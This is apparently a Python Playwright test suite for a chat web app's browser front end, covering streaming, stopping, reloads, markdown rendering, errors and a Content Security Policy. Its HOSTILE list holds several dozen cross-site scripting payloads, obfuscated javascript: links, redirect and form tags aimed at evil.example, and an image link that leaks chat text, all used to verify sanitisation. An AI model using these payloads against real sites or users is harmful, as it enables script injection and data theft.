"""The chat in a real browser: a real answer, stopped, kept, and hostile ones that do nothing."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.browser.support import Desk, Site, Stage, ask, deterministic
from tests.support.net import wait_until

LAST = ".message.assistant:last-of-type"
# What a model, or a page that it has read, might answer to get at whoever reads it.
HOSTILE = (
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:window.pwned=1' id=bad>x</a>",
    "<details open ontoggle=window.pwned=1>",
    "<style>* { display: none }</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=key></form>",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](java\nscript:window.pwned=1)",
    "[click](&#106;avascript:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:x)",
    "[click](//evil.example)",
    "[click](< javascript:window.pwned=1>)",
    "![x](https://evil.example/leak?what=was+said)",
    "![x](javascript:window.pwned=1)",
    '[x](https://ok.example "onmouseover=window.pwned=1")',
    '[x](https://ok.example/"onmouseover="window.pwned=1)',
    "<javascript:window.pwned=1>",
    "<https://ok.example/'onclick='window.pwned=1>",
    "https://ok.example/<script>window.pwned=1</script>",
    "`<img src=x onerror=window.pwned=1>`",
    "```<img src=x onerror=window.pwned=1>\n<script>window.pwned=1</script>\n```",
    "```html onload=window.pwned=1\n</code></pre><script>window.pwned=1</script>",
    "| a | <img src=x onerror=window.pwned=1> |\n|---|---|\n| [x](javascript:1) | b |",
    "> <script>window.pwned=1</script>\n> - <img src=x onerror=window.pwned=1>",
    "# <img src=x onerror=window.pwned=1>",
    "\u202e<script>window.pwned=1</script>\u0000",
    "[" * 5000 + "](x)",
    "*" * 5000 + "a" + "_" * 5000,
    ("> " * 300) + "<script>window.pwned=1</script>",
    "- " * 300 + "x",
)
HARMLESS = """() => {
    const prose = [...document.querySelectorAll(".prose")];
    const bad = "script, img, svg, iframe, style, meta, base, form, object, embed, link";
    const found = prose.flatMap((one) => [...one.querySelectorAll(bad)]).map((one) => one.outerHTML);
    for (const one of prose.flatMap((each) => [...each.querySelectorAll("*")])) {
        for (const { name } of one.attributes) if (name.startsWith("on") || name === "style") found.push(one.outerHTML);
        if (one.nodeName === "A" && !/^(https?:|mailto:)/.test(one.protocol)) found.push(one.outerHTML);
        if (one.nodeName === "A" && !one.rel.includes("noopener")) found.push(one.outerHTML);
    }
    return found;
}"""
MARKDOWN = """### Title
Some **bold**, *slanted*, `code`, ~~gone~~ and a [link](https://example.org).

1. one
2. two
   - inner

| name | size |
|:-----|-----:|
| hen  | 3    |

> quoted

- [x] done
- [ ] open

```python
print("<hi>")
```
"""


def last(page: Page) -> str:
    """Return the newest answer's text."""
    return page.locator(LAST).locator(".prose").inner_text()


def running(page: Page) -> int:
    """Return how long an answer is that still comes."""
    length: int = page.evaluate("document.querySelector('.message.running .prose')?.innerText.length ?? 0")
    return length


def test_a_real_model_answers_and_a_reload_keeps_it(desk: Desk, real: Site) -> None:
    page = desk.open(real, "user")
    expect(page.get_by_label("Model", exact=True).locator("option")).to_have_count(2)
    deterministic(page)
    ask(page, "What is the capital of France?")
    expect(page.locator(LAST)).to_contain_text("Paris", timeout=60_000)
    expect(page.locator(LAST).locator("footer")).to_contain_text("tokens/s", timeout=60_000)
    desk.picture(page, "chat-answer")
    before = last(page)
    page.reload()
    expect(page.locator(LAST).locator(".prose")).to_have_text(before)
    expect(page.locator(".message.user")).to_have_text("What is the capital of France?")
    expect(page.get_by_role("heading", name="What is the capital of France?")).to_be_visible()


def test_an_answer_is_seen_while_it_comes_and_stop_ends_it_at_the_model(desk: Desk, real: Site) -> None:
    page = desk.open(real, "admin")
    deterministic(page)  # by chance a small model is done after two words
    ask(page, "Write a long story about a dog and a cat.")
    stop = page.get_by_role("button", name="Stop")
    expect(stop).to_be_visible()
    wait_until(lambda: running(page) > 40, 60, "the beginning of the answer")
    before = len(last(page))
    wait_until(lambda: running(page) > before, 60, "more of the answer")
    stop.click()
    expect(page.locator(LAST).locator("footer")).to_contain_text("stopped")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    kept = last(page)
    page.goto(f"{real.url}/#/load")
    expect(page.locator(".figure", has_text="Under way").locator("strong")).to_have_text("0")
    page.goto(f"{real.url}/#/chat")
    expect(page.locator(LAST).locator(".prose")).to_have_text(kept, use_inner_text=True)


def test_what_was_said_before_goes_along_and_conversations_are_apart(desk: Desk, scripted: Callable[..., Site]) -> None:
    site = scripted(main={})
    page = desk.open(site, "user")
    ask(page, "First question")
    expect(page.locator(LAST)).to_contain_text("Paris.")
    ask(page, "Second question")
    expect(page.locator(".message.assistant")).to_have_count(2)
    expect(page.get_by_role("button", name="Another answer")).to_be_visible()
    chats = site.engines["main"].chats
    assert [message["role"] for message in chats[-1]["messages"]] == ["system", "user", "assistant", "user"]  # type: ignore[attr-defined]
    page.get_by_role("button", name="New", exact=True).first.click()
    ask(page, "Another matter")
    expect(page.locator(LAST)).to_contain_text("Paris.")
    expect(page.locator(".past-one")).to_have_count(2)
    page.get_by_role("button", name="First question", exact=True).click()
    expect(page.locator(".message.user").first).to_have_text("First question")
    page.get_by_role("button", name="Delete “First question”").click()
    desk.picture(page, "dialog")
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(page.locator(".past-one")).to_have_count(1)
    expect(page.locator(".message.user")).to_have_text("Another matter")


def test_markdown_is_drawn(desk: Desk, scripted: Callable[..., Site]) -> None:
    page = desk.open(scripted(main={"pieces": tuple(MARKDOWN), "thinking": ("Let me ", "think.")}), "user")
    ask(page, "Show me")
    expect(page.locator(LAST).locator("footer")).to_contain_text("first token")
    prose = page.locator(LAST).locator(".prose")
    for part in ("h5", "strong", "em", "del", "ol > li > ul > li", "td.end", "blockquote", "li.task", "pre code"):
        expect(prose.locator(part).first).to_be_visible()
    expect(prose.locator("pre code")).to_have_text('print("<hi>")')
    expect(prose.locator("a")).to_have_attribute("rel", re.compile("noopener noreferrer"))
    page.get_by_text("Thinking").click()
    expect(page.locator(".thinking")).to_contain_text("Let me think.")
    desk.picture(page, "chat-markdown")


def test_hostile_answers_do_nothing(desk: Desk, scripted: Callable[..., Site], stage: Stage) -> None:
    site = scripted(main={})
    engine = site.engines["main"]
    page = desk.open(site, "user")
    for number, text in enumerate(HOSTILE):
        stage.call(lambda text=text: setattr(engine, "pieces", tuple(re.findall(r".{1,400}", text, re.DOTALL))))  # type: ignore[misc]
        ask(page, f"{number}: {text[:200]}")
        expect(page.get_by_role("button", name="Send")).to_be_visible()
        expect(page.locator(".message.assistant")).to_have_count(number + 1)
    assert page.evaluate(HARMLESS) == []
    assert page.evaluate("window.pwned") is None
    assert page.url.startswith(site.url)
    page.reload()
    expect(page.locator(".message.assistant")).to_have_count(len(HOSTILE))
    assert page.evaluate(HARMLESS) == []
    # And all in one, told letter by letter: what is half of something must be as harmless.
    stage.call(lambda: setattr(engine, "pieces", tuple("\n\n".join(HOSTILE[:33]))))
    page.get_by_role("button", name="New", exact=True).first.click()
    ask(page, "All of them")
    expect(page.locator(LAST).locator("footer")).to_contain_text("first token", timeout=60_000)
    assert page.evaluate(HARMLESS) == []
    assert page.evaluate("window.pwned") is None
    desk.picture(page, "chat-hostile")


def test_even_with_markup_the_policy_would_hold(desk: Desk, scripted: Callable[..., Site]) -> None:
    page = desk.open(scripted(main={}), "user")
    desk.expected = ("TrustedHTML", "policy:", "Content Security Policy", "Trusted Type")
    refused = page.evaluate(
        """() => { try { document.body.innerHTML = "<img src=x onerror='window.pwned=1'>"; return "taken"; }
                   catch (error) { return error.name; } }"""
    )
    assert refused == "TypeError"
    page.evaluate("""() => { const made = document.createElement("img"); made.src = "https://evil.example/x.png";
                             document.body.append(made); }""")
    seen = "window.roostViolations.some((one) => one.startsWith('img-src'))"
    wait_until(lambda: bool(page.evaluate(seen)), 10, "the policy to refuse the picture")
    desk.errors = [text for text in desk.errors if not text.startswith("asked elsewhere")]


@pytest.mark.parametrize(
    ("script", "says"),
    [
        ({"mode": "error"}, "out of memory"),
        ({"mode": "die-mid-event"}, "closed the connection"),
        ({"mode": "truncate"}, "ended the stream early"),
        ({"pieces": ()}, "empty answer"),
    ],
)
def test_what_goes_wrong_is_said_and_can_be_tried_again(
    desk: Desk, scripted: Callable[..., Site], stage: Stage, script: dict[str, object], says: str
) -> None:
    desk.expected = ("502",)
    site = scripted(main=script)
    page = desk.open(site, "user")
    ask(page, "Hello")
    expect(page.locator(LAST).get_by_role("alert")).to_contain_text(says)
    desk.picture(page, f"chat-error-{says.replace(' ', '-')}")
    engine = site.engines["main"]

    def mend() -> None:
        engine.mode, engine.pieces = "ready", ("Paris", ".")

    stage.call(mend)
    page.get_by_role("button", name="Try again").click()
    expect(page.locator(LAST).locator(".prose")).to_have_text("Paris.")
    expect(page.locator(".message")).to_have_count(2)


def test_a_reload_in_the_middle_keeps_what_was_there(desk: Desk, scripted: Callable[..., Site], stage: Stage) -> None:
    site = scripted(main={"pieces": ("Half", " of", " it"), "hold": 2})
    page = desk.open(site, "user")
    ask(page, "Hello")
    expect(page.locator(LAST).locator(".prose")).to_contain_text("Half of")
    page.reload()
    expect(page.locator(LAST).locator("footer")).to_contain_text("stopped")
    stage.call(site.engines["main"].go.set)
    page.get_by_role("button", name="Another answer").click()
    expect(page.locator(LAST).locator(".prose")).to_have_text("Half of it")
